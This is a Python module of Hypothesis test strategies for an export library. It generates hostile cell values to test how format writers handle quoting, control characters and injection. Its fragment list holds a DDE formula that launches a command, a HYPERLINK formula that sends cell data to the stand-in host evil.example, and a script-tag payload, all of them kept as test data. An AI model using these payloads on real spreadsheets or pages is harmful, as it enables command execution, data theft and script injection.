"""Hypothesis strategies for data that breaks naive writers.

exportd's own format tests draw their cells from here, so that every format, a
plugin's as well as the built-ins, meets the same quotes, delimiters, control
characters, formula prefixes, markup and very long strings.

With ``wild=True`` the strategies also draw what only a loosely typed store or
a careless plugin hands over, which every built-in format handles: lone
surrogates in text, and text in a column of any type.
"""

from __future__ import annotations

import re
from collections.abc import Sequence
from datetime import UTC, date, datetime
from typing import Any

from hypothesis import strategies as st

from exportd import Column, ColumnType

# Fragments chosen to hit quoting, line splitting, spreadsheet formulas,
# markup injection and bidirectional/multi-codepoint text.
HOSTILE_FRAGMENTS: tuple[str, ...] = (
    '"',
    '""',
    "'",
    ",",
    ";",
    "|",
    "\t",
    "\n",
    "\r",
    "\r\n",
    "\n\r",
    "\x00",
    "\x01",
    "\x08",
    "\x0b",
    "\x0c",
    "\x1b",
    "\x1f",
    "\x7f",
    "\x85",
    "\u2028",
    "\u2029",
    "\ufeff",
    "\u200b",
    "=",
    "+",
    "-",
    "@",
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+SUM(A1:A9)",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "<script>alert(1)</script>",
    "</td></tr></table>",
    "<b>bold</b>",
    "&amp;",
    "&lt;",
    "]]>",
    "<!--",
    "{{ x }}",
    '{"a": 1}',
    "\\",
    "\\n",
    "😀",
    "👩‍👩‍👧‍👦",
    "🇫🇮",
    "e\u0301",
    "שלום",
    "مرحبا",
    "\u202eevil\u202c",
    "\u200f",
    "日本語",
    "NULL",
    "null",
    "None",
    "true",
    "",
    " ",
)
"""Text that quoting, line splitting, spreadsheets and markup get wrong."""

LONE_SURROGATES: tuple[str, ...] = ("\ud800", "\udfff", "a\udc00b", "\ud83d\ude00")
"""Surrogate code points, which a ``str`` can hold and UTF-8 cannot encode: the halves
of a pair too, as Python keeps them apart."""

_SURROGATES = re.compile("[\ud800-\udfff]")


def encodable(text: str) -> str:
    """``text`` as the built-in formats write it: each lone surrogate as U+FFFD."""
    return _SURROGATES.sub("\ufffd", text)


def hostile_text(*, max_repeat: int = 3000, wild: bool = False) -> st.SearchStrategy[str]:
    """Text built from hostile fragments, arbitrary unicode, and long repeats.

    Every draw is text that UTF-8 can encode, unless ``wild`` adds lone surrogates.
    """
    fragments = HOSTILE_FRAGMENTS + (LONE_SURROGATES if wild else ())
    fragment = st.one_of(
        st.sampled_from(fragments),
        st.text(st.characters(codec="utf-8"), max_size=20),
    )
    mixed = st.lists(fragment, max_size=12).map("".join)
    long = st.builds(lambda text, times: text * times, mixed, st.integers(1, max_repeat))
    return st.one_of(mixed, long)


def utc_datetimes() -> st.SearchStrategy[datetime]:
    """Aware UTC datetimes, as sources hand them over, spanning DST changes."""
    return st.datetimes(min_value=datetime(1971, 1, 1), max_value=datetime(2099, 12, 31)).map(
        lambda value: value.replace(tzinfo=UTC)
    )


_CELLS: dict[ColumnType, st.SearchStrategy[Any]] = {
    "text": hostile_text(),
    "integer": st.integers(min_value=-(2**63), max_value=2**63 - 1),
    "float": st.floats(allow_nan=False, allow_infinity=False),
    "boolean": st.booleans(),
    "datetime": utc_datetimes(),
    "date": st.dates(min_value=date(1971, 1, 1), max_value=date(2099, 12, 31)),
}


def hostile_cells(column_type: ColumnType, *, wild: bool = False) -> st.SearchStrategy[Any]:
    """Values of ``column_type`` as a source yields them, ``None`` included
    (``wild``: see the module's docstring)."""
    if not wild:
        return st.none() | _CELLS[column_type]
    if column_type == "text":
        return st.none() | hostile_text(wild=True)
    return st.none() | _CELLS[column_type] | hostile_text(max_repeat=3, wild=True)


def hostile_rows(
    columns: Sequence[Column], *, max_size: int = 20, wild: bool = False
) -> st.SearchStrategy[list[tuple[Any, ...]]]:
    """A batch of row tuples that fit ``columns`` (``wild``: see the module's docstring)."""
    row = st.tuples(*(hostile_cells(column.type, wild=wild) for column in columns))
    return st.lists(row, max_size=max_size)


def hostile_columns(
    *, min_size: int = 1, max_size: int = 6, wild: bool = False
) -> st.SearchStrategy[list[Column]]:
    """Columns with hostile names, distinct as written, and any type (``wild``: names
    with lone surrogates too)."""
    column = st.builds(
        Column,
        name=hostile_text(max_repeat=3, wild=wild),
        type=st.sampled_from(list(_CELLS)),
    )
    return st.lists(
        column, min_size=min_size, max_size=max_size, unique_by=lambda c: encodable(c.name)
    )
